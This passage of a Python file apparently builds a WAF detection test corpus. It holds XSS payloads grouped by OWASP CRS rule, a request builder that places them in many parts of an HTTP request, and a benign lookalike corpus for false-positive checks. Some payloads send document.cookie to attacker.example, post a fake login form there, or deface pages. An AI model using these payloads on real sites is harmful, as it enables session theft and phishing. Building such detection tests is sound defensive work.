    ("xss-js-global-variable", [
        "window['alert'](1)",
        'self["al"+"ert"](document.domain)',
        r"top['al\x65rt'](1)",
        "parent[/*x*/'alert'](1)",
        "this['ev'+'al']('alert(1)')",
        'frames["alert"](1)',
        "globalThis['alert'](1)",
        "window [ 'alert' ] ( 1 )",
        "self[`alert`](1)",
        "top[atob('YWxlcnQ=')](1)",
        r"window['\u0061lert'](1)",
        "window[String.fromCharCode(97,108,101,114,116)](1)",
        "<img src=x onerror=\"self['al'+'ert'](1)\">",
        "document.defaultView['alert'](1)",
    ]),
    # 941101 XSS Attack Detected via libinjection (PL2: URL path and Referer)
    ("xss-libinjection-pl2", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x",
        "'><ScRiPt>alert(1)</ScRiPt>",
        "<svg/onload=alert(1)>",
        "<img/src/onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<input onfocus=alert(1) autofocus>",
    ]),
    # 941150 XSS Filter - Category 5: Disallowed HTML Attributes (PL2)
    ("xss-disallowed-attributes", [
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Session expired, '
        "<a href=//attacker.example/login>log in again</a></p>",
        "<img src=//attacker.example/pixel.gif?c=1>",
        "<a href=//attacker.example/phish>Reset your account</a>",
        '<img dynsrc="//attacker.example/x.avi">',
        '<img lowsrc="//attacker.example/x.gif">',
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        '<div datasrc="#x" datafld="y" dataformatas="html"></div>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<x style=x:expression(alert(1))>",
        "<A HREF=//attacker.example>click</A>",
        "<img src\t=\t//attacker.example/x>",
        "<a/href=//attacker.example>x</a>",
        '<span style="color:red;font-size:99px">HACKED</span>',
        "<video poster=//attacker.example/x.jpg>",
    ]),
    # 941320 Possible XSS Attack Detected - HTML Tag Handler (PL2)
    ("xss-html-tag-handler", [
        "<marquee>hacked by x</marquee>",
        "<h1>HACKED</h1>",
        "<font color=red size=7>Site moved, sign in at attacker.example</font>",
        "<form action=//attacker.example><input name=u><input type=password name=p></form>",
        "<textarea>",
        "<b>bold</b><i>text</i>",
        "<div id=x>owned</div>",
        "<table><tr><td>injected</td></tr></table>",
        "<BLINK>x</BLINK>",
        "<video><source src=x></video>",
        "<audio src=//attacker.example/x.mp3 autoplay>",
        "<select><option>x</option></select>",
        "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>",
        "<html><body>",
    ]),
    # 941330 IE XSS Filters (PL2: a string broken out of, then a property assignment)
    ("ie-xss-filters-string-property", [
        '";document.location="//attacker.example";//',
        "\";location.href=\"//attacker.example/?\"+document.cookie;//",
        "';document.body.innerHTML='<img src=x onerror=alert(1)>';//",
        "\"-(document.location='//attacker.example')-\"",
        '"+(top.location="//attacker.example")+"',
        "'};document.domain='example.com';//",
        '"; x.src="//attacker.example/?c="+document.cookie//',
        "';window.opener.location='//attacker.example/phish';//",
        '"};self.location.hash="x";//',
        "'\t;\tdocument.cookie\t=\t'x=1",
        "%22%3Bdocument.location%3D%22//attacker.example",
    ]),
    # 941340 IE XSS Filters (PL2: location, name, onerror, valueOf assigned after a string)
    ("ie-xss-filters-location-name", [
        '";location="javascript:alert(1)";//',
        "'-(location='//attacker.example')-'",
        '";name="alert(1)";eval(name);//',
        '";onerror=alert;throw 1;//',
        r"';onerror=eval;throw'=alert\x281\x29';//",
        '";o.valueOf=function(){alert(1)};o+1;//',
        r'";\u006Cocation="javascript:alert(1)"//',
        r"';\u006fnerror=alert;throw 1//",
        '"\t;\tlocation\t=\t"//attacker.example',
        "\"-(top.name='x')-\"",
    ]),
    # 941380 AngularJS client side template injection detected
    ("xss-angularjs-csti", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{7*7}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        '["a","alert(1)"].sort(toString.constructor);}}',
        '<input autofocus ng-focus="$event.view.alert(1)">',
        "{{$eval.constructor('alert(1)')()}}",
        "{{ constructor . constructor ( 'alert(1)' ) ( ) }}",
        r"{{constructor.constructor('\u0061lert(1)')()}}",
        "%7B%7Bconstructor.constructor('alert(1)')()%7D%7D",
        "<div ng-app>{{$new.constructor('alert(1)')()}}</div>",
        "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,"
        "0,'alert(1)')()}}",
    ]),
    # CRS 4.x: Javascript method detected
    ("xss-javascript-method", [
        "eval('alert(1)')",
        "setTimeout('alert(1)',0)",
        'setInterval("alert(document.cookie)",1000)',
        "new Function('alert(1)')()",
        "alert (1)",
        "prompt(document.domain)",
        "confirm(1)",
        "atob('YWxlcnQoMSk=')",
        "btoa(document.cookie)",
        "eval\t(atob('YWxlcnQoMSk='))",
        "new\nFunction('alert(1)')()",
        "window.eval/**/('alert(1)')",
        "setTimeout\n('alert(1)')",
        "<svg onload=\"eval(atob('YWxlcnQoMSk='))\">",
    ]),
    # CRS 4.x: XSS JavaScript function without parentheses
    ("xss-function-without-parentheses", [
        "alert`1`",
        "onerror=alert;throw 1",
        r"onerror=eval;throw'=alert\x281\x29'",
        "throw onerror=alert,1",
        "{onerror=alert}throw 1337",
        r"setTimeout`alert\x281\x29`",
        r"location='javascript:alert\x281\x29'",
        "location=name",
        "valueOf=alert;window+''",
        r"Function`alert\x281\x29```",
        "<img src=x onerror=alert`1`>",
        "'-alert`1`-'",
        "onerror=alert;throw/**/1",
        "<svg onload=location=name>",
    ]),
]

# --- request building ----------------------------------------------------------------------------------------
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 "
    "Edg/126.0.2592.87",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7", "en-GB,en;q=0.9",
         "es-ES,es;q=0.9"]
REF_PATHS = ["admin/users", "users/42", "settings/profile", "dashboard", "admin/users/search", "team/members"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
RS_UA = "OWASP CRS test agent"
FORM_FIELDS = ["q", "q", "name", "email", "department"]
JSON_FIELDS = ["name", "bio", "title", "department", "email", "location", "website"]
SETTINGS_FIELDS = ["display_name", "signature", "timezone", "status_text"]
COOKIE_NAMES = ["prefs", "last_search", "theme", "lang", "tz"]
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "remind me: "]
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "path", "header:Referer", "param-name", "xml",
        "header:X-Requested-By", "multipart-field", "multipart-filename"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom-Header", "rs-cookie"]
SPECIAL = {
    "php-script-upload": (["multipart-filename", "header:X-Filename", "multipart-filename", "header:X-File-Name"],
                          ["rs-multipart-filename", "rs-header:X-Filename", "rs-multipart-filename",
                           "rs-header:X-File-Name"]),
    "xss-libinjection-pl2": (["path", "header:Referer"], ["rs-path", "rs-header:Referer"]),
}
VERBATIM = {"query", "form", "cookie", "path", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-cookie",
            "rs-path"}


def _printable(s: str) -> bool:
    return all(c == "\t" or " " <= c <= "~" for c in s)


def _xml_ok(s: str) -> bool:
    return all(c in "\t\n\r" or c >= " " for c in s)


def eligible(place: str, payload: str, flag: str) -> bool:
    if flag == QS:
        return place in ("query", "rs-query", "rs-raw-body")
    if flag == RAW:
        return place in VERBATIM
    if flag == JSONU:
        return place in ("json", "rs-json")
    if "header:" in place:
        return _printable(payload)
    if place.endswith("multipart-filename"):
        return _printable(payload) and '"' not in payload and "\\" not in payload
    if place.endswith("xml") or place.endswith("multipart-field"):
        return _xml_ok(payload)
    return True


def json_u(value: str) -> str:
    """A JSON string literal with every non-alphanumeric character and every vowel as a \\uXXXX escape."""
    return '"' + "".join(c if (c.isascii() and c.isalnum() and c not in "aeiouAEIOU") else f"\\u{ord(c):04x}"
                         for c in value) + '"'


def xml_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class _Builder:
    def __init__(self) -> None:
        self.rng = random.Random(108)
        self.k = 0

    def token(self, n: int = 24) -> str:
        return "".join(self.rng.choice(ALNUM) for _ in range(n))

    def browser(self, accept: str = "application/json, text/plain, */*", mode: str = "cors") -> dict[str, str]:
        return {"User-Agent": self.rng.choice(UAS), "Accept": accept, "Accept-Language": self.rng.choice(LANGS),
                "Accept-Encoding": "gzip, deflate, br, zstd",
                "Referer": "https://app.example.com/" + self.rng.choice(REF_PATHS),
                "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": mode,
                "Sec-Fetch-Dest": "empty" if mode == "cors" else "document",
                "Cookie": f"session={self.token(32)}; cookie_consent=necessary"}

    def rs_headers(self) -> dict[str, str]:
        return {"User-Agent": RS_UA, "Accept": "*/*"}

    @staticmethod
    def enc(payload: str, flag: str) -> str:
        return payload if flag in (RAW, QS) else urllib.parse.quote(payload, safe="")

    def multipart(self, fields: list[tuple[str, str]], filename: str, content: str) -> tuple[str, str]:
        boundary = "----WebKitFormBoundary" + self.token(16)
        parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
        ctype = "image/png" if filename.lower().endswith(".png") else "application/octet-stream"
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
                     f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
        return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"

    # our routes
    def ours(self, place: str, payload: str, flag: str) -> dict[str, Any]:
        self.k += 1
        k, e = self.k, self.enc(payload, flag)
        h = self.browser()
        if place == "query":
            if flag == QS:
                return {"method": "GET", "uri": "/api/users?" + e, "body": "", "headers": h}
            params = [f"q={e}", f"page={1 + k % 5}", f"per_page={(20, 50, 100)[k % 3]}"]
            self.rng.shuffle(params)
            return {"method": "GET", "uri": "/api/users?" + "&".join(params), "body": "", "headers": h}
        if place == "form":
            h = {**self.browser("text/html,application/xhtml+xml,*/*;q=0.8", "navigate"),
                 "Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com"}
            if k % 7 == 0:
                field = SETTINGS_FIELDS[k % len(SETTINGS_FIELDS)]
                return {"method": "POST", "uri": "/me/settings", "headers": h,
                        "body": f"csrf_token={self.token()}&{field}={e}&notify=1"}
            field = FORM_FIELDS[k % len(FORM_FIELDS)]
            return {"method": "POST", "uri": "/admin/users/search", "headers": h,
                    "body": f"csrf_token={self.token()}&{field}={e}"}
        if place == "json":
            return self.ours_json(k, payload, flag, h)
        if place == "cookie":
            h["Cookie"] += f"; {COOKIE_NAMES[k % len(COOKIE_NAMES)]}={e}"
            return {"method": "GET", "uri": f"/api/users?page={1 + k % 4}", "body": "", "headers": h}
        if place.startswith("header:"):
            name = place.split(":", 1)[1]
            if name == "Referer":
                h[name] = "https://app.example.com/admin/users/search?q=" + payload
            else:
                h[name] = payload
            uri = "/api/users/42/avatar" if name.startswith("X-File") else f"/api/users/{40 + k % 9}"
            if name.startswith("X-File"):
                return {"method": "PUT", "uri": uri, "body": "GIF89a",
                        "headers": {**h, "Content-Type": "application/octet-stream"}}
            return {"method": "GET", "uri": uri, "body": "", "headers": h}
        if place == "path":
            uri = ("/api/users/" if k % 3 else "/api/") + e
            return {"method": "GET", "uri": uri, "body": "", "headers": h}
        if place == "param-name":
            return {"method": "GET", "uri": f"/api/users?{e}=1&page={1 + k % 3}", "body": "", "headers": h}
        if place == "xml":
            inner = f"<![CDATA[{payload}]]>" if "]]>" not in payload else xml_escape(payload)
            body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name><email>ann@example.org'
                    f"</email><bio>{inner}</bio></user>")
            return {"method": "POST", "uri": "/api/users", "body": body,
                    "headers": {**h, "Content-Type": "application/xml"}}
        if place == "multipart-field":
            body, ctype = self.multipart([("caption", payload), ("alt", "profile photo")], "avatar.png", "PNGDATA")
            return {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
                    "headers": {**h, "Content-Type": ctype}}
        if place == "multipart-filename":
            body, ctype = self.multipart([("caption", "my new photo")], payload, "GIF89a")
            return {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
                    "headers": {**h, "Content-Type": ctype}}
        raise ValueError(place)

    def ours_json(self, k: int, payload: str, flag: str, h: dict[str, str]) -> dict[str, Any]:
        field = JSON_FIELDS[k % len(JSON_FIELDS)]
        doc: dict[str, Any] = {"name": "Ann Lee", "email": "ann.lee@example.org", "department": "Support"}
        if k % 6 == 0 and flag != JSONU:
            epoch = 1719000000 + k
            text = SLACK_LEADS[k % len(SLACK_LEADS)] + payload
            event = {"type": "app_mention" if k % 2 else "message", "user": "U0" + self.token(8).upper(),
                     "text": text, "ts": f"{epoch}.{k:06d}", "channel": "C0" + self.token(8).upper()}
            env = {"token": self.token(24), "team_id": "T0" + self.token(8).upper(), "api_app_id": "A0PNCHHK2",
                   "event": event, "type": "event_callback", "event_id": "Ev0" + self.token(9).upper(),
                   "event_time": epoch}
            return {"method": "POST", "uri": "/slack/events", "body": json.dumps(env),
                    "headers": {"User-Agent": SLACK_UA, "Accept": "*/*", "Content-Type": "application/json",
                                "X-Slack-Request-Timestamp": str(epoch),
                                "X-Slack-Signature": "v0=" + "".join(self.rng.choice("0123456789abcdef")
                                                                     for _ in range(64))}}
        method, uri = ("PATCH", "/api/users/42") if k % 5 == 0 else ("POST", "/api/users")
        if flag == JSONU:
            body = json.dumps(doc)[:-1] + f', "{field}": {json_u(payload)}}}'
        else:
            doc[field] = payload
            body = json.dumps(doc, ensure_ascii=False)
        return {"method": method, "uri": uri, "body": body, "headers": {**h, "Content-Type": "application/json"}}

    # a regression suite's way
    def rs(self, place: str, payload: str, flag: str) -> dict[str, Any]:
        self.k += 1
        k, e = self.k, self.enc(payload, flag)
        path, param = RS_PATHS[k % len(RS_PATHS)], RS_PARAMS[k % len(RS_PARAMS)]
        h = self.rs_headers()
        if place == "rs-query":
            uri = ("/index.php?" + e) if flag == QS else f"{path}?{param}={e}"
            return {"method": "GET", "uri": uri, "body": "", "headers": h}
        if place == "rs-form":
            return {"method": "POST", "uri": path, "body": f"{param}={e}",
                    "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
        if place == "rs-json":
            body = ("{" + f'"{param}": {json_u(payload)}' + "}") if flag == JSONU else json.dumps({param: payload})
            return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": "application/json"}}
        if place == "rs-xml":
            return {"method": "POST", "uri": path, "body": f"<root><{param}>{xml_escape(payload)}</{param}></root>",
                    "headers": {**h, "Content-Type": "text/xml"}}
        if place == "rs-raw-body":
            return {"method": "POST", "uri": path, "body": payload,
                    "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
        if place == "rs-cookie":
            return {"method": "GET", "uri": path, "body": "", "headers": {**h, "Cookie": f"{param}={e}"}}
        if place == "rs-path":
            return {"method": "GET", "uri": ("/" if k % 2 else "/index.php/") + e, "body": "", "headers": h}
        if place == "rs-multipart-filename":
            body, ctype = self.multipart([("submit", "Upload")], payload, "GIF89a")
            return {"method": "POST", "uri": ("/index.php", "/post")[k % 2], "body": body,
                    "headers": {**h, "Content-Type": ctype}}
        if place.startswith("rs-header:"):
            name = place.split(":", 1)[1]
            if name.startswith("X-File"):
                return {"method": "POST", "uri": "/post", "body": "GIF89a",
                        "headers": {**h, name: payload, "Content-Type": "application/octet-stream"}}
            return {"method": "GET", "uri": path, "body": "", "headers": {**h, name: payload}}
        raise ValueError(place)


def _pick(places: list[str], start: int, payload: str, flag: str) -> tuple[str, int]:
    for step in range(len(places)):
        place = places[(start + step) % len(places)]
        if eligible(place, payload, flag):
            return place, start + step + 1
    raise ValueError(f"no place for {payload!r}")


def attacks() -> Iterator[dict[str, Any]]:
    b = _Builder()
    n = 0
    oi = ri = 0
    for category, subs in (("php", PHP_SUBS), ("xss", XSS_SUBS)):
        for sub, entries in subs:
            ours_places, rs_places = SPECIAL.get(sub, (OURS, RS))
            si = sj = 0
            for entry in entries:
                payload, flag = (entry, "") if isinstance(entry, str) else entry
                if sub in SPECIAL:
                    o_place, si = _pick(ours_places, si, payload, flag)
                    r_place, sj = _pick(rs_places, sj, payload, flag)
                else:
                    o_place, oi = _pick(ours_places, oi, payload, flag)
                    r_place, ri = _pick(rs_places, ri, payload, flag)
                for place, rec in ((o_place, b.ours(o_place, payload, flag)), (r_place, b.rs(r_place, payload, flag))):
                    n += 1
                    yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                           "placement": place, "payload": payload}


# --- benign: the same words, innocently ----------------------------------------------------------------------
CHAT = [
    "PHP 8.3 upgrade is done on staging, php-fpm restarted cleanly",
    "who owns the legacy php admin? the search page is slow again",
    "the <?php tag at the top of config.php has a BOM before it, that's why headers already sent",
    "reminder: never call eval on anything from a request, code review checklist item 4",
    "system tests are green, exec summary goes to the board on Friday",
    "can someone look at the cron that runs shell scripts at 3am? it mails root every night",
    "the onboarding script for new laptops is in the IT wiki",
    "alert fatigue is real, I muted the disk alerts for the build boxes",
    "PagerDuty alert: api latency p95 over 800ms, looking",
    "the onload handler in the marketing site is from the old tag manager, ok to remove",
    "document the cookie banner change before legal asks again",
    "document.cookie is not readable for the session cookie since it's HttpOnly, as it should be",
    "the window cleaners are coming Tuesday, please clear the sills",
    "location of the offsite: Lisbon, hotel details in the doc",
    "our style guide says use sentence case in buttons",
    "the embed code for the YouTube video is in the CMS",
    "object storage bill went down 12% after the lifecycle rules",
    "meta: can we keep standup to 15 minutes?",
    "link to the retro board is pinned in the channel",
    "base salary bands are updated in Workday",
    "the applet we used for the VPN in 2009 is thankfully gone",
    "frame rate on the dashboard drops when the chart has 10k points",
    "import from CSV fails when the file has a semicolon delimiter",
    "the template uses {{first_name}} and {{company}} placeholders, check the preview",
    "the Angular app still renders {{ user.name }} for a split second before bootstrap",
    "we use ng-if instead of ng-show in the settings panel now",
    "JavaScript or TypeScript for the new service? I vote TS",
    "javascript: URLs are blocked by our CSP, that's intended",
    "the vbscript macros in the finance spreadsheet need to be migrated",
    "utf-7 detection came up in the security training, old IE stuff",
    "UTF-8 everywhere please, the CSV export had Latin-1 again",
    "the serialize/unserialize calls in the cache layer are being replaced with JSON",
    "the upload limit for avatars is 5 MB, png or jpg only",
    "ini settings for the worker: memory_limit is 512M now",
    "the php.ini on the old box had display_errors on, fixed",
    "the input stream reader in the importer buffers the whole file, we should stream it",
    "base64 images in emails get clipped by Gmail above 102 KB",
    "is the Glob pattern for the test runner tests/**/*.spec.ts?",
    "the zip export for the audit is ready, link expires in 7 days",
    "the data team wants a read replica for analytics",
    "expect the release at 17:00 CET, I'll post here",
    "the phar file for the deploy tool lives in tools/",
    "compression on the CDN is brotli now",
    "the new function name should be fetchUserById, not getUser",
    "the variable names in that module are all single letters, refactor ticket filed",
    "I renamed the $price variable to $unitPrice in the invoice template",
    "the constructor for the Invoice class takes a currency now",
    "window.location redirects after login are handled by the router now",
    "innerHTML is banned by the lint rule, use textContent",
    "the parent node of the modal is the body element",
    "the marquee at the old intranet finally died",
    "font for headings is Inter, body is Source Serif",
    "bold move shipping on a Friday, good luck",
    "the h1 on the pricing page is too long on mobile",
    "table layout for the report breaks in Safari",
    "textarea autosize is in the component library",
    "select boxes need the new chevron icon",
    "the video player now supports captions",
    "the audio notes from the interview are in the drive",
    "the XML feed from the supplier has a new namespace",
    "the SOAP envelope for the bank still uses CDATA sections",
    "HTML email templates are in the emails repo",
    "the body of the email is too long, trim it",
    "the frame for the conference photo booth arrives Monday",
    "the link preview for our blog shows the wrong image",
    "meta description for the landing page needs 150 characters",
    "the charset of the legacy feed is windows-1252",
    "our object model for orders has a status field",
    "base camp for the hike is at 1200 m",
    "the import tool handles Excel files too",
    "the prompt for the AI summary needs tweaking",
    "confirm the venue by noon please",
    "the eval set for the model is in the bucket",
    "setTimeout in the test makes it flaky, use fake timers",
    "the atob polyfill is no longer needed",
    "alert thresholds for CPU are 85% now",
    "self-review is due next week",
    "top priority this sprint is the billing migration",
    "the parent company changed its name",
    "frames for the office posters are in the storage room",
    "global variable state in that module makes tests order-dependent",
    "the onerror callback of the image loader logs to Sentry",
    "throw a proper error instead of returning null there",
    "name the branch after the ticket, e.g. PAY-123",
    "value of the contract is EUR 40k per year",
    "the location field accepts free text",
    "open tag policy at the office: doors open 8 to 18",
    "file upload to the share drive fails for names with #",
    "configuration directive for the proxy is in the ops repo",
    "the I/O stream on the old server was saturated",
    "wrapper script for the backup is in /opt/backup",
    "high-risk changes need two approvals",
    "the medium-risk items can wait for next quarter",
    "function call overhead is negligible here",
    "serialized objects in the queue are JSON now",
    "the variable function in the pricing sheet broke after the update",
    "libinjection is the library our WAF vendor mentioned on the call",
    "script tag manager is removed from the checkout",
    "event handler for the button is attached in main.ts",
    "attribute names in the export are snake_case",
    "HTML injection in emails was fixed by escaping names",
    "node validator package was replaced by zod",
    "IE support ended long ago, remove the polyfills",
    "US-ASCII is a subset of UTF-8, no conversion needed",
    "JSFuck is a fun talk topic for the lunch and learn",
    "AngularJS is end of life, the migration to Angular 17 is on the roadmap",
    "Zoë and José are joining the platform team next month 🎉",
    "Москва office will be closed on Monday",
    "東京のチームは明日リリースします",
    "الفريق في دبي سيبدأ غدا",
    "2 < 3 and 5 > 4, the sort comparator was inverted",
    "rate is 3 <= x <= 7 for the retry backoff",
    "I <3 the new dashboard",
    "use -> for the arrow in the docs, not =>",
    "price $20/month or $200/year",
    "email me at ann.lee+billing@example.org",
    "the regex ^[a-z0-9_-]+$ is what we use for slugs",
    "path is C:\\Users\\ann\\Documents\\report.docx",
    "SELECT counts are in the weekly report, ask data team",
    "100% of the tests pass; coverage is 87%",
    "the Wi-Fi password changed, ask reception",
    "the new office address is 10 Downing Lane #4",
    "lunch order: pad thai x3, green curry x2",
]
SEARCHES = [
    "php developer", "senior php engineer berlin", "javascript", "script writer", "alert settings",
    "onload event", "document", "cookie policy", "window cleaning contract", "location: remote",
    "style guide", "embed video", "object storage", "meta", "link", "base salary", "applet", "frame shop",
    "import csv", "template {{first_name}}", "angular", "vbscript", "utf-7", "serialize", "upload avatar",
    "php.ini", "input stream", "base64", "glob pattern", "zip export", "data team", "expect", "phar",
    "compression", "function", "variable pay", "constructor", "innerHTML", "parent", "marquee",
    "font", "bold", "h1", "table", "textarea", "select", "video", "audio", "xml feed", "CDATA", "html email",
    "body", "charset", "object", "prompt", "confirm", "eval", "setTimeout", "atob", "self review", "top",
    "frames", "global", "onerror", "throw", "name", "value", "system", "exec", "shell", "passthru",
    "include", "require", "O'Brien", "Zoë", "José García", "d'Angelo", "Van der Berg", "#general",
    "ann.lee@example.org", "+49 30 1234567", "PAY-123", "2024-06-30", "C++", "C#", "Node.js", ".NET",
    "R&D", "Q3 & Q4", "50%", "1 < 2", "a > b", "x=1", "key: value", "[draft]", "(urgent)", "$100",
    "javascript developer lisbon", "script supervisor", "iframe", "svg icons", "math teacher",
]
NAMES = [
    ("Ann O'Brien", "Support"), ("Zoë Saldaña", "Design"), ("José García", "Sales"), ("Siobhán Ní Bhriain", "Legal"),
    ("Dmitri Ivanov", "Platform"), ("Mei Ling Chen", "Data"), ("Jean-Luc Picard", "Exec"), ("D'Angelo Smith", "Ops"),
    ("Van der Berg, Pieter", "Finance"), ("Alert Okafor", "Security"), ("Script Mbeki", "Support"),
    ("Ève Lambert", "HR"), ("Björn Ångström", "Engineering"), ("Nguyễn Văn An", "QA"), ("Олена Коваль", "Marketing"),
    ("李雷", "Engineering"), ("Fatima Al-Sayed", "Product"), ("Mary-Kate O'Neil", "Support"),
    ("Tom Script", "IT"), ("Max Mustermann", "Ops"), ("Ana Lucía Pérez", "Design"), ("Kwame Nkrumah", "Sales"),
    ("Søren Kierkegaard", "Philosophy"), ("Ólafur Arnalds", "Music"), ("Chloé Dupont", "Exec"),
]
ADDRESSES = [
    "10 Downing Lane #4, London SW1A 2AA", "Friedrichstraße 123, 10117 Berlin", "1600 Amphitheatre Pkwy, Mountain View",
    "Rua Augusta 27, 1100-048 Lisboa", "Calle de Alcalá 50, 28014 Madrid", "5th Ave & 42nd St, New York",
    "Apt. 3B, 221b Baker Street", "P.O. Box 1234, Dubai", "東京都千代田区1-1", "Unit 7/12 George St, Sydney NSW 2000",
    "c/o Acme GmbH, Hauptstr. 5", "Suite 100 - Building A, 1 Infinite Loop", "Location: Main Campus, Room 127",
    "Window Street 8, 1012 Amsterdam", "Object Lane 2, Cambridge",
]
BIOS = [
    "PHP and JavaScript developer for 10 years, now mostly TypeScript.",
    "I write scripts for short films and the occasional play.",
    "Cookie enthusiast. Baker on weekends.",
    "Frontend engineer: HTML, CSS, a lot of Angular templates with {{ }} bindings.",
    "Building alert pipelines at work, hiking at weekends.",
    "Location: Lisbon. Languages: PT, EN, ES.",
    "I <3 open source and long walks.",
    "Ex-Java, now Go. Still dream in constructors.",
    "Window and door installer turned software tester.",
    "My style: minimal, my code: documented.",
    "Security engineer interested in XSS and CSP research.",
    "Embedded systems developer (C, Rust).",
    "Object-oriented thinker, functional programmer.",
    "Meta-data nerd and archivist.",
    "Base jumper (retired), now a UX researcher.",
    "Import/export specialist at a logistics firm.",
    "Typography lover: serif > sans-serif, fight me.",
    "Product manager. I say 'no' for a living.",
    "Prompt engineer and prose writer.",
    "Video editor and audio engineer.",
]
URLS = [
    "https://www.php.net/manual/en/function.system.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/location",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Attributes/onload",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://owasp.org/www-community/attacks/xss/",
    "https://angularjs.org/",
    "https://docs.angularjs.org/guide/security",
    "https://www.javascript.com/",
    "https://github.com/acme/web/blob/main/src/index.php",
    "https://github.com/acme/web/blob/main/public/js/onload.js",
    "https://example.com/files/style-guide.pdf",
    "https://cdn.example.org/js/app.min.js?v=2.4.1",
    "https://www.youtube.com/embed/dQw4w9WgXcQ",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://blog.example.com/2024/05/02/php-8-3-upgrade-notes",
    "https://www.example.co.uk/search?q=window+frames&page=2",
    "https://maps.example.com/location?lat=38.7223&lng=-9.1393",
    "https://shop.example.com/products/cookie-jar?color=blue&size=l",
    "https://jobs.example.com/php-developer-remote",
    "https://calendar.example.com/event?title=Alert+review&date=2024-07-01",
    "https://status.example.com/incidents/2024-06-12",
    "https://docs.example.com/api/v2/users#update-a-user",
]
REFERERS = [
    "https://www.google.com/", "https://duckduckgo.com/?q=php+onload+event&ia=web",
    "https://stackoverflow.com/questions/4842590/how-to-run-a-function-when-the-page-is-loaded",
    "https://app.example.com/admin/users?q=script", "https://www.bing.com/search?q=javascript+alert+box",
    "https://news.ycombinator.com/item?id=40000000", "https://t.co/abc123", "https://app.example.com/dashboard",
    "https://mail.example.com/", "https://www.linkedin.com/feed/",
]
CLIENT_UAS = [
    *UAS,
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "okhttp/4.12.0", "python-requests/2.32.3", "curl/8.5.0", "PostmanRuntime/7.39.0", "axios/1.7.2",
    "ExampleApp/3.14.1 (iPhone; iOS 17.5; Scale/3.00)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Go-http-client/2.0",
    "Java/17.0.11", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Microsoft Office/16.0",
]
COOKIES = [
